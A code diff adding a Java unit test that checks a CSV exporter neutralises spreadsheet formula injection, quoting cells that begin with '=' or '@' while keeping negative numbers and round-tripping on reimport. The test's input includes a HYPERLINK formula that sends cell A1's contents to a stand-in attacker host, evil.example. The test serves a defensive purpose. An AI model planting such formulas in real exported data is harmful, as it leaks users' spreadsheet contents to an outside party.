@@ -31,6 +31,7 @@ import org.tfeval.pg.ConnectionSettings;
 import org.tfeval.store.audit.AuditLog;
 import org.tfeval.store.audit.AuditReplay;
 import org.tfeval.store.edit.RecordEditor;
+import org.tfeval.store.imports.Exporter;
 import org.tfeval.store.imports.ImportException;
 import org.tfeval.store.imports.Importer;
 import org.tfeval.testkit.PostgresExtension;
@@ -246,6 +247,35 @@ class ImportAttackTest {
         long size =
                 r.violations().stream().mapToLong(v -> v.describe().length()).sum();
         assertThat(size).as("characters of all messages").isLessThan(200_000);
+    }
+
+    @Test
+    void a_csv_export_neutralises_formula_cells_but_keeps_numbers_and_missing_codes_and_round_trips() throws Exception {
+        Map<String, String> a = kase("TFA-C7", "TFA");
+        a.put("NARRATIVE", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+        Map<String, String> b = kase("TFA-C8", "TFA");
+        b.put("NARRATIVE", "'=already quoted"); // a spreadsheet's own text quote: removed on import
+        Map<String, String> d = kase("TFA-C9", "TFA");
+        d.put("NARRATIVE", "@SUM(1+1)");
+        stored("case", "formula.csv", List.of(a, b, d));
+        assertThat(a.get("LABOR_INDUSTRY")).isEqualTo("-7");
+
+        Path out = dir.resolve("export.csv");
+        Exporter.Written w = new Exporter(store).write("case", out);
+        assertThat(w.neutralised()).isEqualTo(3);
+        String csv = Files.readString(out);
+        assertThat(csv)
+                .contains("\"'=HYPERLINK(")
+                .contains(",'=already quoted,")
+                .contains("'@SUM(1+1)")
+                .doesNotContain(",=")
+                .doesNotContain("'-7");
+        assertThat(csv.lines().filter(l -> l.startsWith("TFA-C7")).findFirst().orElseThrow())
+                .contains(",-7,");
+
+        ImportResult again = Importer.of(store).importFile("case", out);
+        assertThat(again.errors()).isZero();
+        assertThat(again.updated()).as("the quote is removed again on import").isZero();
     }
 
     @Test
